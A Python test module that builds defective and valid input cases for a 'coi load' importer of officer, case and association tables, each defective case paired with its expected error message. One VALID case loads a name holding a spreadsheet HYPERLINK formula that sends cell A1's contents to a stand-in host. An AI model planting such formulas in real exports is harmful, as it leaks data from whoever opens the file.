"""The corpus: every defect class of docs/data-contract.md, one per case, as code.

Each :class:`Case` turns a fresh copy of ``tests/fixtures/example`` into the input to
load (a folder or a workbook) plus extra ``coi load`` arguments (the builders are in
``builders.py``). ``DEFECTS`` must be refused with a line naming the file, row and column
where they apply, and the reason (``expect`` lists those fragments); ``VALID`` must load.
``write_corpus`` writes every case out as a folder, for trying them by hand
(``python -m bad_input.defects OUT``).
"""

from __future__ import annotations

import sys
from pathlib import Path

from coi.graph.model import TABLE_ORDER as TABLES

from bad_input.builders import (
    EXAMPLE,
    Case,
    add_column,
    both_formats,
    cell,
    chain,
    copy_file,
    copy_row,
    drop_column,
    header_only,
    latin1,
    line,
    mapping,
    parquet,
    ragged,
    raw,
    read_rows,
    remove,
    rename,
    replace_with,
    with_args,
    workbook,
    write_rows,
)

__all__ = ["DEFECTS", "EXAMPLE", "FORMULA", "HUGE", "VALID", "Case", "cell", "read_rows", "write_corpus", "write_rows"]

D = Case
DEFECTS: list[Case] = [
    # required tables and columns
    *(
        D(f"missing-table-{t}", remove(t), (f"{t}.csv", f"required table {t} not found"))
        for t in ("units", "officers", "postings", "cases", "assignments")
    ),
    *(
        D(f"missing-column-{t}.{c}", drop_column(t, c), (f"{t}.csv", f"missing required column(s): {c}"))
        for t, c in (
            ("units", "name"),
            ("officers", "officer_id"),
            ("people", "person_id"),
            ("postings", "start_date"),
            ("cases", "case_type"),
            ("assignments", "role"),
            ("associations", "person_b"),
        )
    ),
    # empty required values
    *(
        D(f"empty-{t}.{c}", cell(t, r, c, ""), (f"{t}.csv row {r}, column {c}", "required value is empty"))
        for t, r, c in (
            ("units", 3, "name"),
            ("officers", 4, "name"),
            ("people", 2, "person_id"),
            ("postings", 2, "start_date"),
            ("cases", 2, "opened_on"),
            ("assignments", 2, "role"),
            ("associations", 2, "kind"),
        )
    ),
    # duplicate ids, and duplicate rows whose id is derived
    *(
        D(f"duplicate-{t}.{c}", copy_row(t, 3), (f"{t}.csv row 3, column {c}", f"duplicate {c}"))
        for t, c in (("units", "unit_id"), ("officers", "officer_id"), ("people", "person_id"), ("cases", "case_id"))
    ),
    D(
        "duplicate-postings.posting_id",
        add_column("postings", "posting_id", ["PX1", "PX1"] + [f"PX{i}" for i in range(2, 20)]),
        ("postings.csv row 2, column posting_id", "duplicate posting_id"),
    ),
    D(
        "duplicate-assignments.assignment_id",
        add_column("assignments", "assignment_id", ["A1"] * 2 + [f"A{i}" for i in range(2, 20)]),
        ("assignments.csv row 3, column assignment_id", "duplicate assignment_id"),
    ),
    D(
        "duplicate-associations.association_id",
        add_column("associations", "association_id", ["S1", "S2", "S1"]),
        ("associations.csv row 4, column association_id", "duplicate association_id"),
    ),
    D(
        "duplicate-derived-posting",
        copy_row("postings", 5, role="Other role"),
        ("postings.csv row 5", "duplicate row (same officer_id, unit_id, start_date)"),
    ),
    D(
        "duplicate-derived-assignment",
        copy_row("assignments", 4),
        ("assignments.csv row 4", "duplicate row (same case_id, person_id, role, start_date)"),
    ),
    D(
        "duplicate-derived-association-reversed",
        copy_row("associations", 2, person_a="O3", person_b="O7"),
        ("associations.csv row 2", "duplicate row"),
    ),
    # dates
    D(
        "date-not-iso",
        cell("officers", 2, "joined_on", "2001.09.01"),
        ("officers.csv row 2, column joined_on", "not a date in YYYY-MM-DD form"),
    ),
    D(
        "date-words",
        cell("cases", 3, "opened_on", "10 May 2019"),
        ("cases.csv row 3, column opened_on", "not a date in YYYY-MM-DD form"),
    ),
    D(
        "date-ambiguous-dayfirst",
        cell("cases", 2, "opened_on", "03/01/2023"),
        ("cases.csv row 2, column opened_on", "ambiguous: pass --dayfirst"),
    ),
    D(
        "date-year-1",
        cell("officers", 2, "joined_on", "0001-01-01"),
        ("officers.csv row 2, column joined_on", "outside the supported range 1900-01-01..2100-12-31"),
    ),
    D(
        "date-before-1900",
        cell("cases", 2, "opened_on", "1899-12-31"),
        ("cases.csv row 2, column opened_on", "outside the supported range"),
    ),
    D(
        "date-after-2100",
        cell("postings", 3, "end_date", "2101-01-01"),
        ("postings.csv row 3, column end_date", "outside the supported range"),
    ),
    D(
        "date-dayfirst-out-of-range",
        with_args(cell("postings", 3, "end_date", "01/01/2200"), "--dayfirst"),
        ("postings.csv row 3, column end_date", "outside the supported range"),
    ),
    D(
        "date-dayfirst-unambiguous",
        cell("cases", 2, "opened_on", "31/03/2024"),
        ("cases.csv row 2, column opened_on", "a day-first date (DD/MM/YYYY): pass --dayfirst"),
    ),
    D(
        "date-monthfirst",
        cell("cases", 2, "opened_on", "12/31/2024"),
        ("cases.csv row 2, column opened_on", "a month-first date"),
    ),
    D(
        "date-impossible-either-order",
        cell("cases", 2, "opened_on", "31/02/2022"),
        ("cases.csv row 2, column opened_on", "not a real calendar date in either day/month order"),
    ),
    D(
        "date-impossible",
        cell("postings", 2, "start_date", "2021-02-30"),
        ("postings.csv row 2, column start_date", "not a real calendar date"),
    ),
    D(
        "date-impossible-dayfirst",
        with_args(cell("postings", 2, "start_date", "30/02/2021"), "--dayfirst"),
        ("postings.csv row 2, column start_date", "not a real calendar date"),
    ),
    D(
        "end-before-start-postings",
        cell("postings", 6, "end_date", "2016-12-31"),
        ("postings.csv row 6, column end_date", "ends before it starts"),
    ),
    D(
        "end-before-start-cases",
        cell("cases", 3, "closed_on", "2019-01-01"),
        ("cases.csv row 3, column closed_on", "ends before it starts"),
    ),
    D(
        "end-before-start-assignments",
        cell("assignments", 6, "end_date", "2019-05-01"),
        ("assignments.csv row 6, column end_date", "ends before it starts"),
    ),
    D(
        "end-before-start-associations",
        cell("associations", 2, "end_date", "2015-01-01"),
        ("associations.csv row 2, column end_date", "ends before it starts"),
    ),
    D(
        "end-before-start-officers",
        cell("officers", 2, "left_on", "2000-01-01"),
        ("officers.csv row 2, column left_on", "ends before it starts"),
    ),
    # references
    D(
        "unknown-unit",
        cell("postings", 2, "unit_id", "NOWHERE"),
        ("postings.csv row 2, column unit_id", "unknown unit id"),
    ),
    D(
        "unknown-parent-unit",
        cell("units", 3, "parent_unit_id", "NOPE"),
        ("units.csv row 3, column parent_unit_id", "unknown unit id"),
    ),
    D(
        "unknown-officer-is-a-person",
        cell("postings", 2, "officer_id", "P1"),
        ("postings.csv row 2, column officer_id", "unknown officer id"),
    ),
    D(
        "unknown-line-manager",
        cell("postings", 3, "line_manager_id", "O99"),
        ("postings.csv row 3, column line_manager_id", "unknown person id"),
    ),
    D(
        "unknown-case",
        cell("assignments", 2, "case_id", "K99"),
        ("assignments.csv row 2, column case_id", "unknown case id"),
    ),
    D(
        "unknown-person",
        cell("assignments", 3, "person_id", "X1"),
        ("assignments.csv row 3, column person_id", "unknown person id"),
    ),
    D(
        "unknown-association-person",
        cell("associations", 2, "person_a", "X2"),
        ("associations.csv row 2, column person_a", "unknown person id"),
    ),
    D(
        "unknown-counter-allegation",
        cell("cases", 4, "counter_allegation_of", "K99"),
        ("cases.csv row 4, column counter_allegation_of", "unknown case id"),
    ),
    # structure
    D(
        "unit-cycle",
        cell("units", 3, "parent_unit_id", "NRA"),
        ("units.csv row 3, column parent_unit_id", "unit hierarchy has a cycle"),
    ),
    D(
        "unit-own-parent",
        cell("units", 2, "parent_unit_id", "EXF"),
        ("units.csv row 2, column parent_unit_id", "cycle"),
    ),
    D(
        "officer-person-id-collision",
        copy_row("people", 2, person_id="O1"),
        ("people.csv row 4, column person_id", "share one id namespace"),
    ),
    D(
        "self-counter-allegation",
        cell("cases", 4, "counter_allegation_of", "K4"),
        ("cases.csv row 4, column counter_allegation_of", "counter-allegation of itself"),
    ),
    D(
        "self-association",
        cell("associations", 2, "person_b", "O7"),
        ("associations.csv row 2, column person_b", "two different people"),
    ),
    # look-alike ids
    *(
        D(
            f"invisible-id-{name}",
            cell(t, r, c, v),
            (f"{t}.csv row {r}, column {c}", f"invisible or format character ({code}"),
        )
        for name, t, r, c, v, code in (
            ("zero-width", "officers", 2, "officer_id", "O1\u200b", "U+200B"),
            ("bom", "postings", 3, "officer_id", "\ufeffO1", "U+FEFF"),
            ("bidi", "units", 3, "unit_id", "NC\u202e", "U+202E"),
            ("nbsp", "cases", 2, "case_id", "K\u00a01", "U+00A0"),
            ("control", "assignments", 2, "person_id", "O4\x07", "U+0007"),
        )
    ),
    D(
        "full-width-reference",
        cell("postings", 3, "officer_id", "\uff2f1"),
        ("postings.csv row 3, column officer_id", "unknown officer id: did you mean 'O1'?"),
    ),
    # enumerations and booleans
    *(
        D(f"bad-enum-{t}.{c}", cell(t, r, c, v), (f"{t}.csv row {r}, column {c}", "must be one of"))
        for t, r, c, v in (
            ("officers", 2, "rank", "general"),
            ("cases", 2, "case_type", "murder"),
            ("assignments", 2, "role", "judge"),
            ("associations", 2, "kind", "enemy"),
            ("associations", 3, "source", "rumour"),
            ("units", 2, "kind", "galaxy"),
        )
    ),
    D(
        "bad-boolean",
        cell("postings", 2, "supervisor", "maybe"),
        ("postings.csv row 2, column supervisor", "must be true or false"),
    ),
    # files
    D("not-utf8-latin1", raw("officers", latin1), ("officers.csv", "not UTF-8")),
    D("empty-file", raw("officers", b""), ("officers.csv", "empty file")),
    D("empty-optional-file", raw("people", b""), ("people.csv", "empty file")),
    D("ragged-csv", raw("officers", ragged), ("officers.csv row 3", "row has 8 fields but the header has 6")),
    D(
        "short-row",  # would otherwise load as an ongoing posting with no line manager
        line("postings", 6, "O4,NRA,2017-01-01"),
        ("postings.csv row 6", "row has 3 field(s) but the header has 7"),
    ),
    D(
        "short-row-unclosed-quote",
        line("officers", 3, 'O2,"Beth Carter,sergeant,3302,2008-03-01,'),
        ("officers.csv row 3", "(an unclosed quote?)"),
    ),
    D("broken-link-table", replace_with("associations", "broken-link"), ("associations.csv", "broken link")),
    D("fifo-table", replace_with("people", "fifo"), ("people.csv", "not a regular file")),
    D("directory-table", replace_with("postings", "directory"), ("postings.csv", "is a directory")),
    D(
        "misnamed-optional-table",
        rename("associations.csv", "association.csv"),
        ("association.csv", "looks like table associations", "--ignore"),
    ),
    D(
        "near-miss-optional-table",
        rename("associations.csv", "asociations.csv"),
        ("asociations.csv", "looks like table associations"),
    ),
    D(
        "backup-of-missing-table",
        rename("officers.csv", "Officers.csv.bak"),
        ("Officers.csv.bak", "looks like table officers"),
    ),
    D(
        "duplicate-header",
        raw("officers", lambda b: b.replace(b"rank,", b"name,", 1)),
        ("officers.csv", "appears twice"),
    ),
    D(
        "emptied-table-the-store-had",  # the corpus loads into a store already holding the example
        header_only("associations"),
        ("table associations", "0 rows, 3 removed", "--allow-empty associations"),
    ),
    D("corrupt-parquet", raw("officers", b"PAR1 not really", ".parquet"), ("officers.parquet", "cannot read Parquet")),
    D("table-twice", both_formats("people"), ("people", "found twice")),
    D(
        "xlsx-renamed-sheet",
        workbook({"officers": "Officers export"}),
        ("officers", "required table officers not found"),
    ),
    D(
        "mapping-unknown-column",
        mapping('[columns.officers]\nbadge = "Badge"\n'),
        ("-map.toml", "'badge' is not a column of officers"),
    ),
    D("mapping-not-toml", mapping("[columns\n"), ("-map.toml", "cannot read mapping")),
]

HUGE = "x" * 1_000_000
FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
VALID: list[Case] = [
    D("header-only-associations", with_args(header_only("associations"), "--allow-empty", "associations")),
    D(
        "header-only-every-table",
        with_args(
            header_only(*TABLES),
            *(arg for table in TABLES for arg in ("--allow-empty", table)),
        ),
    ),
    D("utf8-bom", raw("officers", lambda b: b"\xef\xbb\xbf" + b)),
    D("huge-field", cell("cases", 2, "summary", HUGE)),
    D("formula-looking-name", cell("officers", 2, "name", FORMULA)),
    D("parquet-table", parquet("officers")),
    D("xlsx-workbook", workbook({})),
    D("dayfirst-with-option", with_args(cell("cases", 2, "opened_on", "01/03/2023"), "--dayfirst")),
    D("crlf-line-ends", raw("officers", lambda b: b.replace(b"\n", b"\r\n"))),
    D("backup-beside-its-table", copy_file("officers.csv", "officers.csv.bak")),  # a warning, not a refusal
    D(
        "nfd-reference-to-nfc-id",  # the same id once NFC-normalised: one person, not two
        chain(copy_row("officers", 2, officer_id="\u00d699"), copy_row("postings", 3, officer_id="O\u030899")),
    ),
]


def write_corpus(target: Path) -> None:
    """Write every case as ``target/<name>/`` (mapping cases leave their file beside it)."""
    for case in [*DEFECTS, *VALID]:
        case.build(target / case.name)


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1]))
